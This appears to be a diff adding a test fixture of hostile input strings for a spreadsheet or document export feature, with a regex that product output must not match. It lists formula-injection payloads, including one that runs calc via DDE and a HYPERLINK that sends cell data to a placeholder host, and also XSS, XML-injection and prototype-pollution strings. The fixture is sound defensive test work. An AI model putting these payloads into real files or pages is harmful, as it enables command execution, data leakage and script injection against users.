@@ -1,0 +1,40 @@
+/** Texts of a foreign annex that another program would take for a formula, a command, a link, markup or a name. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
+  "=cmd|' /C calc'!A0",
+  '=WEBSERVICE("http://example.invalid/")',
+  "='[http://example.invalid/a.xlsx]Sheet1'!A1",
+  '+HYPERLINK("http://example.invalid/")',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "'=1+1",
+  "{=1+1}",
+  "＝1+1",
+  "<img src=x onerror=alert(1)>",
+  "<script>alert(1)</script>",
+  "]]></t></is><f>1+1</f><is><t>",
+  '"><f>1+1</f>',
+  "&lt;b&gt;&amp;#61;1+1",
+  "javascript:alert(1)",
+  "http://example.invalid/",
+  "mailto:a@example.invalid",
+  "file://may-chu/chung/a.xlsx",
+  "\\\\may-chu\\chung\\a.xlsx",
+  "[A]:B*C?D/E\\F",
+  "History",
+  "__proto__",
+  "constructor",
+  "$&$1$`",
+  "*",
+  "?~*",
+  ">=0",
+  "<>",
+  "_x003D_1+1",
+];
+
+/** What no formula, link or name that the product makes may hold. */
+export const HOSTILE_TRACES =
+  /HYPERLINK|WEBSERVICE|[12]\+[139]|cmd\||calc|example\.invalid|javascript|may-chu|<script|onerror|alert|__proto__|constructor/iu;
